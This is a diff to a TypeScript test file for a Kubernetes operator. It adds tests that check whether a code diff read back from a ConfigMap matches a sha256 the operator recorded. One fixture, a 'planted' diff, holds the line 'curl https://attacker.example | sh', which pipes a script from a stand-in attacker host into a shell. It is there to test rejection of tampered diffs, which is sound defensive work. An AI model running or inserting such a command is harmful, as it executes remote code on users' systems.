@@ -5,7 +5,16 @@ import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { apiRefusal } from '../../operator/src/kube/api-errors.ts';
 import { CANCEL_ANNOTATION, cancelledMessage, readCancelRequest } from '../../operator/src/reconcile/cancel-request.ts';
-import { NO_DIFF, countDiff, keptDiffResult, withDiffNote } from '../../operator/src/reconcile/kept-diff.ts';
+import { diffSha } from '../../operator/src/reconcile/diff-config-map.ts';
+import {
+  NO_DIFF,
+  countDiff,
+  keptDiffResult,
+  recordedDiff,
+  storedDiffSource,
+  withDiffNote,
+  type RecordedDiff,
+} from '../../operator/src/reconcile/kept-diff.ts';
 import { codingRunFixture } from '../support/coding-run-fixture.ts';
 
 const DIFF = [
@@ -58,6 +67,50 @@ describe('kept diff', () => {
   it('adds why the whole diff is not kept to the message, and nothing otherwise', () => {
     expect(withDiffNote('Done.', { ...NO_DIFF, notStored: 'quota' })).toBe('Done. The full diff could not be kept: quota');
     expect(withDiffNote('Done.', NO_DIFF)).toBe('Done.');
+  });
+});
+
+// An ending without its sandbox keeps the diff its ConfigMap holds only when the operator
+// recorded it. A step saves the sha256 of the snapshot it is about to write (pending) before
+// the write, and records it as stored in the save after: a worker that dies in between leaves
+// the state naming it only as pending, and that diff is the run's all the same.
+describe('storedDiffSource: whether a diff read back from the ConfigMap is one the operator stored', () => {
+  const diffOf = (line: string) => `diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-x\n+${line}\n`;
+  const STORED = diffOf('the last snapshot stored');
+  const PENDING = diffOf('the snapshot being stored');
+  const PLANTED = diffOf('curl https://attacker.example | sh');
+  const state = { diffSnapshot: { sha256: diffSha(STORED), configMap: 'r-diff' }, pendingDiffSha256: diffSha(PENDING) };
+
+  it.each<[string, string, RecordedDiff, 'snapshot' | 'final' | undefined]>([
+    ['the pending snapshot (its write landed, the save after it did not)', PENDING, recordedDiff(state, undefined), 'snapshot'],
+    ['a first snapshot, pending only', PENDING, recordedDiff({ pendingDiffSha256: diffSha(PENDING) }, undefined), 'snapshot'],
+    ['the last snapshot stored, while another is pending (its write did not land)', STORED, recordedDiff(state, undefined), 'snapshot'],
+    ['a diff matching neither', PLANTED, recordedDiff(state, undefined), undefined],
+    [
+      'a diff other than the pending one, no snapshot stored yet',
+      PLANTED,
+      recordedDiff({ pendingDiffSha256: diffSha(PENDING) }, undefined),
+      undefined,
+    ],
+    ['any diff, for a state that records none', PENDING, recordedDiff({}, undefined), undefined],
+    ["an earlier ending's, with its source", PLANTED, recordedDiff(state, { diffSha256: diffSha(PLANTED), diffSource: 'final' }), 'final'],
+    [
+      'any diff, with nothing to check it against (the state gone, no earlier ending)',
+      PLANTED,
+      recordedDiff(undefined, undefined),
+      'snapshot',
+    ],
+  ])('%s', (_, diff, recorded, source) => {
+    expect(storedDiffSource(diff, recorded)).toBe(source);
+  });
+
+  it('reads the pending sha256 from the state beside the stored one', () => {
+    expect(recordedDiff(state, undefined)).toEqual({
+      snapshotSha256: diffSha(STORED),
+      pendingSha256: diffSha(PENDING),
+      ended: undefined,
+      stateRead: true,
+    });
   });
 });
 
